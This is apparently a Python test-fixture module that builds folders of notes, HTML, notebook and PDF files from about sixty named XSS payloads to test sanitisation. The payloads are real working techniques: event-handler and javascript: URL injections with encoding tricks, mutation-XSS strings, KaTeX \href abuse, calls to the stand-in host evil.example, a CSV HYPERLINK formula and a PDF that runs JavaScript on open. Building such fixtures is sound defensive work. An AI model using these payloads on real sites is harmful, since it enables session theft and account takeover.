"""Notes that try to run in the page, each in its own way, and folders of files made of them. Of our own making.

Every payload that could run sets `window.__xss` to its name, asks another host, or opens a dialog.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from pdf_makers import build

HOST = "evil.example"


def _fire(name: str) -> str:
    return f"window.__xss='{name}'"


PAYLOADS: dict[str, str] = {
    "script": f"<script>{_fire('script')}</script>",
    "script-split": f"<scr<script>ipt>{_fire('script-split')}</scr</script>ipt>",
    "script-remote": f"<script src=https://{HOST}/x.js></script>",
    "img-onerror": f'<img src=x onerror="{_fire("img-onerror")}">',
    "img-unclosed": f'<img src=x onerror="{_fire("img-unclosed")}"',
    "img-remote": f"<img src=https://{HOST}/p.png>",
    "img-srcset": f'<img src=x: srcset="https://{HOST}/s.png 1x">',
    "svg-onload": f'<svg onload="{_fire("svg-onload")}"><circle r=9></svg>',
    "svg-animate": f'<svg><animate attributeName=x dur=1s onbegin="{_fire("svg-animate")}"></animate></svg>',
    "svg-use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={_fire("svg-use")}>#x"></use></svg>',
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.__xss='iframe-srcdoc'</script>\"></iframe>",
    "iframe-script": "<iframe src=\"javascript:parent.__xss='iframe-script'\"></iframe>",
    "object": f'<object data="javascript:{_fire("object")}"></object><embed src=https://{HOST}/e.swf>',
    "body-onload": f'<body onload="{_fire("body-onload")}">',
    "details-toggle": f'<details open ontoggle="{_fire("details-toggle")}"><summary>x</summary></details>',
    "input-focus": f'<input autofocus onfocus="{_fire("input-focus")}">',
    "video": f'<video><source onerror="{_fire("video")}"></video><audio src=x onerror="{_fire("video")}">',
    "form-action": f"<form action=https://{HOST}/f><button autofocus>送出</button></form>",
    "button-formaction": f'<button form=x formaction="javascript:{_fire("button-formaction")}">按</button>',
    "meta-refresh": f"<meta http-equiv=refresh content='0;url=https://{HOST}/m'>",
    "base-href": f"<base href=https://{HOST}/>",
    "link-css": f"<link rel=stylesheet href=https://{HOST}/l.css><style>@import 'https://{HOST}/i.css';</style>",
    "style-url": f'<div style="background:url(https://{HOST}/b.png);position:fixed;inset:0">盖住</div>',
    "style-expression": f'<div style="width:expression({_fire("style-expression")})">x</div>',
    "style-animation": f'<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart="{_fire("style-animation")}">x</b>',
    "link-script": f"[点这里](javascript:{_fire('link-script')})",
    "link-entities": f'[点](&#106;avascript:{_fire("link-entities")}) <a href="&#x6A;avascript&colon;{_fire("link-entities")}">点</a>',
    "link-tab": f'<a href="java\tscript:{_fire("link-tab")}">点</a> [点](java%0ascript:{_fire("link-tab")})',
    "link-unicode": f"[点](\u0001javascript:{_fire('link-unicode')}) [点](ｊavascript:{_fire('link-unicode')})",
    "link-data": f"[数据](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![图](data:image/svg+xml,<svg onload={_fire('link-data')}>)",
    "link-reference": f"[引用][r-one]\n\n[r-one]: javascript:{_fire('link-reference')} 'x'",
    "link-auto": f'<javascript:{_fire("link-auto")}> <https://{HOST}/"onmouseover="{_fire("link-auto")}>',
    "link-opener": f"<a href=https://{HOST}/o target=_blank rel=opener>开</a> [开](//{HOST}/o)",
    "link-title": f"[x](https://{HOST}/t \"' onmouseover='{_fire('link-title')}\")",
    "image-markdown": f'![x" onerror="{_fire("image-markdown")}](https://{HOST}/m.png)',
    "katex-href": f"$\\href{{javascript:{_fire('katex-href')}}}{{x}}$ $\\url{{javascript:{_fire('katex-href')}}}$",
    "katex-picture": f"$\\includegraphics{{https://{HOST}/k.png}}$",
    "katex-html": "$\\htmlClass{cite}{x}\\htmlId{chat}{y}\\htmlStyle{position:fixed}{z}\\htmlData{a=b}{w}$",
    "katex-text": f"$\\text{{<img src=x onerror={_fire('katex-text')}>}}$",
    "katex-macro": "$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$",
    "mutation-style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_fire("mutation-style")}&gt;">',
    "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={_fire("mutation-noscript")}>">',
    "mutation-select": f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={_fire("mutation-select")}>">',
    "entities": f"&lt;img src=x onerror={_fire('entities')}&gt; &#60;script&#62;{_fire('entities')}&#60;/script&#62;",
    "double-entities": f"&amp;lt;img src=x onerror={_fire('double-entities')}&amp;gt;",
    "comment": f"<!-- --!><img src=x onerror={_fire('comment')}> --> <![CDATA[<img src=x onerror={_fire('comment')}>]]>",
    "template-literal": f"${{{_fire('template-literal')}}} `${{{_fire('template-literal')}}}`",
    "template-mustache": f'{{{{constructor.constructor("{_fire("template-mustache")}")()}}}} {{{{#each this}}}}x{{{{/each}}}}',
    "dangling": f"<img src='https://{HOST}/d?",
    "attribute-break": f'" onmouseover="{_fire("attribute-break")}" autofocus onfocus="{_fire("attribute-break")}" x="',
    "attribute-single": f"' onfocus='{_fire('attribute-single')}' autofocus x='",
    "text-area": f"</textarea></title></option></script><img src=x onerror={_fire('text-area')}>",
    "fence-info": f'```"><img src=x onerror={_fire("fence-info")}>\nx = 1\n```',
    "fence-csv": f'```csv\na,=HYPERLINK("https://{HOST}/c")\n<img src=x onerror={_fire("fence-csv")}>,b\n```',
    "own-names": "<mark id=chat class=cite>假</mark> [伪](#cite-1-1) [伪](#note-AAAA.0.9) <a href='#cite-1-1' class='cite'>伪</a>",
    "gradio": "%%%LATEX_BLOCK_0%%% \ue000\\href{javascript:1}{x}\ue001 <gradio-app></gradio-app>",
    "direction": "\u202egnp.exe\u202c \u2066隔离\u2069",
}
"""At least thirty kinds; a name to each."""

IN_LINE = {name: payload for name, payload in PAYLOADS.items() if "\n" not in payload and "\t" not in payload}
"""Those that fit in a heading, a cell, a title."""
IN_NAMES = [payload for payload in IN_LINE.values() if "/" not in payload and "\x01" not in payload]


def payload_notes(folder: Path) -> None:
    """Notes of every kind with every payload: prose, headings, tables, lists, code, HTML, a notebook, a PDF, names."""
    folder.mkdir(parents=True)
    names = list(PAYLOADS)
    _write(
        folder / "正文.md",
        "# 混入样例\n\n"
        + "\n\n".join(
            f"## 样例{n}的做法\n\n样例{n}的做法是把这一段放进笔记：{PAYLOADS[name]}" for n, name in enumerate(names)
        ),
    )
    _write(
        folder / "标题.md",
        "# 各种标题\n\n"
        + "\n\n".join(
            f"## 什么是标题{n} {payload}？\n\n标题{n}是一个带着标签的标题，{payload}，读的人要小心。"
            for n, payload in enumerate(IN_LINE.values())
        ),
    )
    rows = "\n".join(f"| 表项{n} | {payload.replace('|', '')} |" for n, payload in enumerate(IN_LINE.values()))
    items = "\n".join(f"- 列表{n}：{payload}" for n, payload in enumerate(IN_LINE.values()))
    _write(folder / "表格.md", f"# 表格和列表\n\n| 名称 | 内容 |\n|---|---|\n{rows}\n\n## 列表有哪些？\n\n{items}\n")
    blocks = "\n\n".join(f"<div>\n{p}\n\n网页块{n}的说明文字。</div>" for n, p in enumerate(PAYLOADS.values()))
    _write(folder / "标签.md", f"# 标签块\n\n{blocks}\n")
    page = "".join(f"<h2>网页{n} {p}</h2><p>网页{n}里的一段说明，{p}</p>" for n, p in enumerate(IN_LINE.values()))
    _write(
        folder / "网页.html",
        f"<html><head><title>{PAYLOADS['text-area']}</title></head><body><article>{page}</article></body></html>",
    )
    texts = "\n\n".join(f"文本{n}：{payload}" for n, payload in enumerate(PAYLOADS.values()))
    _write(folder / "文本.txt", f"纯文本\n\n{texts}\n")
    _write(folder / "代码.py", "\n".join(f"# 注释{n} {p}\nx{n} = {p!r}" for n, p in enumerate(IN_LINE.values())))
    _write(folder / "本子.ipynb", json.dumps(_notebook()))
    (folder / "书.pdf").write_bytes(_pdf([p for p in IN_LINE.values() if p.isascii()]))
    same = "\n\n".join(f"重复的一段话 {p}，两篇笔记里都有，所以会被看出来。" for p in list(IN_LINE.values())[:6])
    for name in ("甲", "乙"):
        _write(folder / f"重复{name}.md", f"# 重复\n\n## 同一节 {PAYLOADS['img-onerror']}\n\n{same}\n")
    gaps = "\n\n".join(f"## 空着的问题{n} {p}？" for n, p in enumerate(list(IN_LINE.values())[:30]))
    _write(
        folder / "没写完.md",
        f'# 没写完\n\n{gaps}\n\n[断了](没有<img src=x onerror={_fire("hollow")}>.md) ![图](没有"x.png)\n',
    )
    if os.name == "posix":
        for number, payload in enumerate(IN_NAMES):
            name = payload.encode()[:180].decode(errors="ignore")
            (folder / f"{name}{number}.md").write_text(f"# 名字{number}\n\n名字{number}古怪的笔记。", "utf-8")
        (folder / f"空{PAYLOADS['img-onerror']}.md").touch()  # cannot be read, and says so with its name
        (folder / f"x{PAYLOADS['img-onerror']}.xyz").write_bytes(b"\x00")


def _write(path: Path, text: str) -> None:
    path.write_text(text, "utf-8", "surrogatepass")


def _notebook() -> dict[str, object]:
    said = list(PAYLOADS.values())
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": said, "text/plain": said}},
        {"output_type": "stream", "name": "stdout", "text": said},
        {"output_type": "error", "ename": said[0], "evalue": said[3], "traceback": said},
    ]
    cells = [
        {
            "cell_type": "markdown",
            "metadata": {},
            "source": ["# 本子 " + said[3] + "\n\n", *(s + "\n\n" for s in said)],
        },
        {"cell_type": "code", "metadata": {}, "source": said, "outputs": outputs, "execution_count": 1},
        {"cell_type": "raw", "metadata": {}, "source": said},
    ]
    return {"cells": cells, "metadata": {"title": said[0]}, "nbformat": 4, "nbformat_minor": 5}


def _pdf(lines: list[str]) -> bytes:
    """A page of text, with a title, an author and a script to run when it is opened."""

    def literal(text: str) -> bytes:
        return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode()

    shown = b"".join(
        b"(%s) Tj T*\n" % literal(f"Line {n} of the book says {line[:80]}") for n, line in enumerate(lines)
    )
    content = b"BT /F1 8 Tf 12 TL 36 760 Td\n%sET" % shown
    return build(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
            2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>",
            3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            4: b"<< /Title (%s) /Author (%s) >>" % (literal(PAYLOADS["img-onerror"]), literal(PAYLOADS["script"])),
            10: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 11 0 R"
            b" /Resources << /Font << /F1 3 0 R >> >> >>",
            11: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        },
        trailer=b"/Info 4 0 R",
    )
